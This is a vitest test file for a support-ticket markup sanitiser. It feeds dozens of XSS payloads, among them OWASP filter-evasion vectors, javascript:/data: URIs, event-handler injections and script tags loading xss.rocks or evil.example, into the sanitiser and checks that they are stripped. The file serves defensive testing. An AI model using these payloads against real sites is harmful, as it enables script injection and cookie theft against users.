/**
 * Ticket descriptions are written by mentors' tools and may carry hostile markup. They become a tree of whitelisted
 * nodes; nothing here may ever yield a script, a frame, an event handler or a javascript: link.
 */
import { describe, expect, it } from 'vitest';
import { pathologicalInputs } from '../../bench/lib/pathological';
import { RichNode, type RichNode as Node } from '../../src/shared/contract';
import { richText, searchableText } from '../../src/main/engine/tickets/markup';
import markdownIt from 'markdown-it';
import { inlineMarkdown, markdownToRich, skipParsingPlainText } from '../../src/main/engine/tickets/markup/markdown';
import { HOSTILE_DESCRIPTIONS } from '../../src/server/areas/support/content';

/** Every tag, attribute and text in a tree, flattened, for "never contains" checks. */
function walk(
  nodes: Node[],
  out: { tags: string[]; urls: string[]; text: string[] } = { tags: [], urls: [], text: [] },
) {
  for (const node of nodes) {
    if (node.t === 'text') {
      out.text.push(node.v);
      continue;
    }
    out.tags.push(node.tag);
    if (node.href) out.urls.push(node.href);
    if (node.src) out.urls.push(node.src);
    for (const key of Object.keys(node)) expect(['t', 'tag', 'href', 'src', 'alt', 'children']).toContain(key);
    walk(node.children, out);
  }
  return out;
}

function safe(input: string) {
  const result = richText(input);
  // The contract's own schema accepts only whitelisted tags and http(s)/mailto targets.
  for (const node of result.doc) expect(RichNode.safeParse(node).success).toBe(true);
  const flat = walk(result.doc);
  for (const url of flat.urls) expect(url).toMatch(/^(https?:|mailto:)/i);
  expect(flat.tags).not.toContain('script');
  return { ...result, ...flat, plain: flat.text.join('') };
}

describe('hostile descriptions seeded by the sandbox', () => {
  it.each(HOSTILE_DESCRIPTIONS.map((d) => [d]))('neutralises %s', (description) => {
    const { plain, urls, removed } = safe(description);
    expect(plain).not.toMatch(/alert\(|document\.cookie|evil\.example/);
    expect(urls.join(' ')).not.toMatch(/javascript|evil/i);
    expect(removed.length).toBeGreaterThan(0);
  });

  it('drops script with its body but keeps the surrounding words', () => {
    const { plain, removed } = safe(HOSTILE_DESCRIPTIONS[0]!);
    expect(plain).toBe('Learner pasted this:Please advise.');
    expect(removed).toContain('script');
  });

  it('drops iframes and their target', () => {
    const { tags, removed } = safe(HOSTILE_DESCRIPTIONS[2]!);
    expect(tags).not.toContain('iframe');
    expect(removed).toContain('iframe');
  });

  it('keeps the words of a javascript: link but not the link (HTML and Markdown)', () => {
    const md = safe(HOSTILE_DESCRIPTIONS[3]!);
    expect(md.tags).not.toContain('a');
    expect(md.plain).toContain('reset link');
    const html = safe(HOSTILE_DESCRIPTIONS[4]!);
    expect(html.tags).not.toContain('a');
    expect(html.plain).toBe('Click to view the transcript');
  });

  it('removes event handlers and the elements that carried them', () => {
    expect(safe(HOSTILE_DESCRIPTIONS[1]!).removed).toContain('event handlers');
    const svg = safe(HOSTILE_DESCRIPTIONS[5]!);
    expect(svg.tags).not.toContain('svg');
    expect(svg.plain).toContain('Learner');
    expect(svg.tags).toContain('strong');
  });

  it('drops form fields (a phishing form keeps no input or placeholder)', () => {
    const form = safe(HOSTILE_DESCRIPTIONS[6]!);
    expect(form.plain).not.toContain('password');
    expect(form.removed).toContain('form fields');
  });
});

describe('other XSS vectors', () => {
  const vectors = [
    '<a href="java&#x09;script:alert(1)">a</a>',
    '<a href="  JaVaScRiPt:alert(1)">b</a>',
    '<a href="&#106;avascript:alert(1)">c</a>',
    '<a href="vbscript:msgbox(1)">d</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">e</a>',
    '<IMG SRC="javascript:alert(1)">',
    '<img src=x onerror=alert(1)//>',
    '<body onload=alert(1)>f</body>',
    '<div style="background:url(javascript:alert(1))">g</div>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<<script>script>alert(1)<</script>/script>',
    '<scr<script>ipt>alert(1)</script>',
    '<!--<script>alert(1)</script>--><p>h</p>',
    '<a href="https://ok.example/" onclick="alert(1)" target="_top">i</a>',
    '[j](javascript:alert(1))',
    '[k](  javascript:alert(1) )',
    '![l](javascript:alert(1))',
    '<javascript:alert(1)>',
    '<details open ontoggle=alert(1)>m</details>',
    '<p>n<script>alert(1)',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>o',
    '<a href="https://ok.example/">p<iframe src="javascript:alert(1)"></iframe></a>',
    '<base href="javascript:/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
  ];

  it.each(vectors.map((v) => [v]))('%s', (vector) => {
    const { urls, tags, plain } = safe(vector);
    expect(urls.join(' ')).not.toMatch(/javascript|vbscript|data:|evil/i);
    for (const tag of tags) expect(['p', 'div', 'span', 'a', 'em', 'strong', 'table', 'br']).toContain(tag);
    // Text is text: it is drawn escaped, but no executable fragment should survive as a tag either.
    expect(plain).not.toMatch(/<img|<script|onerror=/i);
  });

  it('keeps a safe link with its query and drops its handler', () => {
    const { urls, removed } = safe('<a href="https://ok.example/?a=1&amp;b=2" onclick="x()">ok</a>');
    expect(urls).toEqual(['https://ok.example/?a=1&b=2']);
    expect(removed).toContain('event handlers');
  });

  it('counts remote images instead of loading them', () => {
    const markdown = safe('See ![screenshot](https://img.example/a.png) and ![again](https://img.example/c.png)');
    expect(markdown.remoteImages).toBe(2);
    expect(markdown.urls).toEqual(['https://img.example/a.png', 'https://img.example/c.png']);
    const html = safe('<p>See <img src="https://img.example/b.png" alt="b"></p>');
    expect(html.remoteImages).toBe(1);
    expect(html.urls).toEqual(['https://img.example/b.png']);
  });

  it('bounds nesting and size', () => {
    const deep = safe('<div>'.repeat(5000) + 'x' + '</div>'.repeat(5000));
    expect(deep.plain).toBe('x');
    expect(deep.tags.length).toBeLessThanOrEqual(30);
    const nestedQuotes = safe('>'.repeat(2000) + ' y');
    expect(nestedQuotes.plain).toContain('y');
    const huge = richText('a'.repeat(500_000));
    expect(JSON.stringify(huge.doc).length).toBeLessThan(110_000);
  });

  it('keeps only the words past the nesting limit: no script body, handler, link or image survives there', () => {
    const deep = safe(
      `${'<div>'.repeat(30)}a<script>s()</script><b onclick="x()">b</b><a href="javascript:y()">c</a><img src="https://i.example/a.png" alt="i">${'</div>'.repeat(30)}`,
    );
    expect(deep.plain).toBe('abc');
    expect(deep.urls).toEqual([]);
    expect(deep.tags.every((tag) => tag === 'div')).toBe(true);
  });

  it('unwraps an unknown tag named like a property of every object (`<constructor>`)', () => {
    expect(safe('<constructor>x</constructor>').doc).toEqual([{ t: 'text', v: 'x' }]);
    expect(safe('Raw <constructor>b</constructor>').doc).toEqual([
      {
        t: 'el',
        tag: 'p',
        children: [
          { t: 'text', v: 'Raw ' },
          { t: 'text', v: 'b' },
        ],
      },
    ]);
  });
});

describe('ordinary descriptions', () => {
  it('reads the Markdown the human-support tool writes', () => {
    const { doc } = safe(
      '**Escalated by Ada**\n\n- Topic: *the final exam*\n- Learner: Bo\n\n> Why is my grade wrong?\n\n## Steps\n\n1. one\n2. two\n\n```\nsession flagged: needs_human\n```\n\nSee https://help.example/faq.',
    );
    const tags = walk(doc).tags;
    for (const tag of ['strong', 'ul', 'li', 'em', 'blockquote', 'h2', 'ol', 'pre', 'code', 'a'])
      expect(tags).toContain(tag);
    expect(walk(doc).urls).toEqual(['https://help.example/faq']);
  });

  it('reads HTML lists, quotes and links', () => {
    const { tags, urls } = safe(
      '<p>The learner asked during a <strong>Tutor</strong> session.</p>\n<ul>\n  <li>Topic: exam</li>\n</ul>\n<blockquote>Help</blockquote><a href="https://help.example/faq">FAQ</a>',
    );
    expect(tags).toEqual(expect.arrayContaining(['p', 'strong', 'ul', 'li', 'blockquote', 'a']));
    expect(urls).toEqual(['https://help.example/faq']);
  });

  it('keeps emoji and right-to-left text exactly', () => {
    const arabic = 'الطالب يطلب المساعدة بخصوص الامتحان. 📚';
    expect(safe(`${arabic}\n\n> سؤال 🙏`).plain).toBe(`${arabic}سؤال 🙏`);
    expect(safe('<p>בעיה בהגשת המטלה 😟</p>').plain).toBe('בעיה בהגשת המטלה 😟');
  });

  it('does not read snake_case or arithmetic as emphasis', () => {
    const { tags, plain } = safe('flag needs_human_review and 2 * 3 * 4');
    expect(tags).not.toContain('em');
    expect(plain).toBe('flag needs_human_review and 2 * 3 * 4');
  });

  it('indexes words, not markup', () => {
    expect(searchableText('<p onclick="x">Refund <b>please</b></p><script>var secret</script>')).not.toMatch(
      /onclick|secret|<b>/,
    );
  });
});

describe('what the old hand-written reader got wrong', () => {
  it('leaves an unknown entity as written instead of looking it up on Object.prototype', () => {
    for (const name of ['constructor', 'hasOwnProperty', 'toString', 'valueOf']) {
      expect(safe(`<p>a &${name}; b</p>`).plain).toBe(`a &${name}; b`);
      expect(safe(`a &${name}; b`).plain).toBe(`a &${name}; b`);
    }
  });

  it('knows every HTML named entity, in HTML and in Markdown', () => {
    const written = '&hearts; &eacute; &frac12; &NotNestedGreaterGreater; &amp;lt; &Aring; &zwj;';
    const meant = '♥ é ½ \u2aa2\u0338 &lt; Å \u200d';
    expect(safe(`<p>${written}</p>`).plain).toBe(meant);
    expect(safe(written).plain).toBe(meant);
  });

  it('closes a paragraph where the next one opens, as a browser does', () => {
    const { doc } = safe('<p>a<p>b');
    expect(doc).toEqual([
      { t: 'el', tag: 'p', children: [{ t: 'text', v: 'a' }] },
      { t: 'el', tag: 'p', children: [{ t: 'text', v: 'b' }] },
    ]);
  });

  it('reads **bold *it*** as bold with italic inside', () => {
    const strong = {
      t: 'el',
      tag: 'strong',
      children: [
        { t: 'text', v: 'bold ' },
        { t: 'el', tag: 'em', children: [{ t: 'text', v: 'it' }] },
      ],
    };
    expect(safe('**bold *it***').doc).toEqual([{ t: 'el', tag: 'p', children: [strong] }]);
    // Markdown inside the text of an HTML description too.
    expect(safe('<div>**bold *it***</div>').doc).toEqual([{ t: 'el', tag: 'div', children: [strong] }]);
  });

  it('shows HTML text as written: an escaped tag stays text, not Markdown nor markup', () => {
    const { plain, tags } = safe('<p>Type &lt;b&gt;x&lt;/b&gt; and AT&amp;T &amp;amp;</p>');
    expect(plain).toBe('Type <b>x</b> and AT&T &amp;');
    expect(tags).toEqual(['p']);
  });
});

describe('cmark pathological inputs at 100 KB', () => {
  /**
   * A generous bound, in CPU time (not wall time, so a busy machine does not fail it): each of these takes well under
   * 100 ms here (bench: `npm run bench -- tickets-markup`); the old reader took 8.5 s for 60 KB of '*a '. Only a
   * reader that is quadratic somewhere misses it.
   */
  const BOUND_MS = 2_000;
  const cpuMs = (run: () => void) => {
    const start = process.cpuUsage();
    run();
    const used = process.cpuUsage(start);
    return (used.user + used.system) / 1000;
  };

  it.each(pathologicalInputs(100_000).map((c) => [c.name, c]))('%s', (_name, { input, keeps }) => {
    let result: ReturnType<typeof richText> | undefined;
    expect(cpuMs(() => (result = richText(input)))).toBeLessThan(BOUND_MS);
    // A safe tree still, and nothing dropped silently.
    const { plain } = safe(input);
    if (keeps) expect(plain).toContain(keeps);
    expect(result!.doc.length).toBeGreaterThan(0);
  });
});

describe('Markdown read from its tokens', () => {
  /** Markdown of every kind the reader meets, including what only an HTML parser can place (raw HTML, nested links). */
  const written = [
    '**Escalated by Ada**\n\n- Topic: *the final exam*\n- Learner: Bo\n\n> Why is my grade wrong?\n\n## Steps\n\n1. one\n2. two\n\n```\nsession flagged\n```\n\nSee https://help.example/faq.',
    '- a\n  - b\n    > c\n- d\n\n  e\n\n3) x\n4) y',
    '- tight\n  ```js\n  code();\n  ```\n- next\n\n      indented code\n\n***\nSetext\n===',
    '| a | b |\n|:--|--:|\n| *c* | [d](https://d.example) |\n| e |',
    'line one\nline two  \nline three\\\nfour',
    '![a *b* `c`\nd ![e](https://e.example/e.png)](https://i.example/i.png "t") and [x][r]\n\n[r]: https://r.example "R"',
    '~~gone~~ \\*kept\\* &amp; &copy; &#13;&#10; &#0; `a  b` <mailto:a@b.example> <https://c.example>',
    '[outer <https://inner.example> text](https://outer.example) and [a [b](https://b.example)](https://a.example)',
    'Raw <b>bold *md*</b> and <span onclick="x()">span</span>\n\n<div>\n\n*inside*\n\n</div>',
    '[j](javascript:alert(1)) ![k](data:image/png;base64,AAAA) [l](https://ok.example/?a=1&b=2)',
    'الطالب يطلب المساعدة 📚\r\n> سؤال\r\n\u0000',
  ];
  /** Seeded random strings of Markdown syntax (the same every run). */
  function fuzz(count: number): string[] {
    const pieces = [
      '*',
      '_',
      '**',
      '[',
      ']',
      '(',
      ')',
      '![',
      '`',
      '```\n',
      '> ',
      '- ',
      '1. ',
      ' ',
      '\n',
      '\n\n',
      'a',
      'b c',
      '|',
      '| --- |',
      '# ',
      '~~',
      '&amp;',
      '&#13;',
      '\\',
      'https://x.example/a',
      '<https://y.example>',
      '    ',
      '\t',
      '\r\n',
      '](https://z.example)',
      '[r]',
      '[r]: https://r.example\n',
      'javascript:x',
      '"t"',
      '  \n',
      '<b>',
    ];
    let seed = 7;
    const next = (n: number) => (seed = (seed * 1103515245 + 12345) % 2147483648) % n;
    return Array.from({ length: count }, () =>
      Array.from({ length: 1 + next(30) }, () => pieces[next(pieces.length)]).join(''),
    );
  }
  const inputs = [
    ...written,
    ...pathologicalInputs(300).map((c) => c.input),
    ...pathologicalInputs(3000).map((c) => c.input),
    ...fuzz(1500),
  ];

  it('reads text without inline syntax into the tokens markdown-it would make', () => {
    const options = { html: true, linkify: true, breaks: true };
    const [plain, shortcut] = [markdownIt(options), skipParsingPlainText(markdownIt(options))];
    for (const input of [...inputs, '| a | b |\n|---|---|\n| c | d e |\n| f |\n\n# Title\n\nplain words']) {
      expect(shortcut.parse(input, {}), input).toEqual(plain.parse(input, {}));
      expect(shortcut.parseInline(input, {}), input).toEqual(plain.parseInline(input, {}));
    }
  });

  it("gives the tree parse5 reads from markdown-it's HTML", () => {
    for (const input of inputs) {
      const [fromTokens, fromHtml] = [new Set<string>(), new Set<string>()];
      expect(markdownToRich(input, fromTokens), input).toEqual(markdownToRich(input, fromHtml, true));
      expect(fromTokens).toEqual(fromHtml);
      const [inlineTokens, inlineHtml] = [new Set<string>(), new Set<string>()];
      expect(inlineMarkdown(input, inlineTokens), input).toEqual(inlineMarkdown(input, inlineHtml, true));
      expect(inlineTokens).toEqual(inlineHtml);
    }
  });
});

describe('OWASP XSS filter-evasion cases', () => {
  // From the OWASP XSS Filter Evasion Cheat Sheet, plus the same tricks written as Markdown.
  const vectors = [
    '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
    `<IMG SRC="javascript:alert('XSS');">`,
    `<IMG SRC=javascript:alert('XSS')>`,
    `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
    `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    `<a onmouseover="alert(document.cookie)">xxs link</a>`,
    `<a onmouseover=alert(document.cookie)>xxs link</a>`,
    `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
    `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
    `<IMG SRC=# onmouseover="alert('xxs')">`,
    `<IMG SRC= onmouseover="alert('xxs')">`,
    `<IMG onmouseover="alert('xxs')">`,
    `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
    `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
    `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
    `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
    `<IMG SRC="jav\tascript:alert('XSS');">`,
    `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
    `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
    `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
    `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
    `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
    `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
    `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
    `<SCRIPT SRC=//xss.rocks/.j>`,
    '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
    `<iframe src=http://xss.rocks/scriptlet.html <`,
    `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
    `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
    `<BODY BACKGROUND="javascript:alert('XSS')">`,
    `<IMG DYNSRC="javascript:alert('XSS')">`,
    `<IMG LOWSRC="javascript:alert('XSS')">`,
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
    `<IMG SRC='vbscript:msgbox("XSS")'>`,
    `<IMG SRC="livescript:[code]">`,
    `<svg/onload=alert('XSS')>`,
    `<BODY ONLOAD=alert('XSS')>`,
    `<BGSOUND SRC="javascript:alert('XSS');">`,
    `<BR SIZE="&{alert('XSS')}">`,
    `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
    `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
    `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
    `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
    `<XSS STYLE="behavior: url(xss.htc);">`,
    `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
    `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
    `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
    `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
    `<TABLE BACKGROUND="javascript:alert('XSS')">`,
    `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
    `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
    `<DIV STYLE="width: expression(alert('XSS'));">`,
    `<BASE HREF="javascript:alert('XSS');//">`,
    `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
    `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
    `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
    `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
    '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
    `<A HREF="//www.google.com/">XSS</A>`,
    `<a href="jAvAsCrIpT&colon;alert(1)">X</a>`,
    `<a href="javas&Tab;cript:alert(1)">X</a>`,
    `<a href="&#x6A;avascript&#x3A;alert(1)">X</a>`,
    `<a href="\u0001javascript:alert(1)">X</a>`,
    `<svg><script>alert(1)</script></svg>`,
    `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
    `<form><button formaction="javascript:alert(1)">X</button></form>`,
    `<isindex type=image src=1 onerror=alert(1)>`,
    `<video><source onerror="alert(1)">`,
    `<marquee onstart=alert(1)>x</marquee>`,
    `<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</a>`,
    // The same tricks in Markdown.
    '[a](javascript&#58;alert(1))',
    '[a](JAVASCRIPT:alert(1))',
    '[a](java%0ascript:alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)',
    '[a](vbscript:alert(1))',
    'Some text <a href="javascript:alert(1)">raw HTML in Markdown</a> **bold**',
    '[x][evil]\n\n[evil]: javascript:alert(1)',
    '[x](javascript:alert(1) "title")',
    '[x](<javascript:alert(1)>)',
    '<http://x.example/"onmouseover="alert(1)>',
    '[x](http://ok.example/" onmouseover="alert(1))',
    '```\n<script>alert(1)</script>\n```',
    '<img src="https://ok.example/a.png" onerror="alert(1)">',
  ];

  it.each(vectors.map((v) => [v]))('%s', (vector) => {
    const { urls, tags } = safe(vector);
    // Links and images only to http(s) or mailto, never a dangerous scheme or a protocol-relative address.
    for (const url of urls) {
      expect(url).toMatch(/^(https?:\/\/[^\s"'<>]+|mailto:[^\s]+)$/i);
      expect(url).not.toMatch(/javascript|vbscript|livescript|data:/i);
    }
    for (const tag of [
      'script',
      'iframe',
      'frame',
      'object',
      'embed',
      'svg',
      'math',
      'style',
      'base',
      'meta',
      'link',
    ]) {
      expect(tags).not.toContain(tag);
    }
  });

  it('keeps a safe image but never its handler, and code stays code', () => {
    const image = safe('<img src="https://ok.example/a.png" onerror="alert(1)">');
    expect(image.urls).toEqual(['https://ok.example/a.png']);
    expect(image.removed).toContain('event handlers');
    const fenced = safe('```\n<script>alert(1)</script>\n```');
    expect(fenced.tags).toEqual(['pre', 'code']);
    expect(fenced.plain).toBe('<script>alert(1)</script>\n');
  });
});
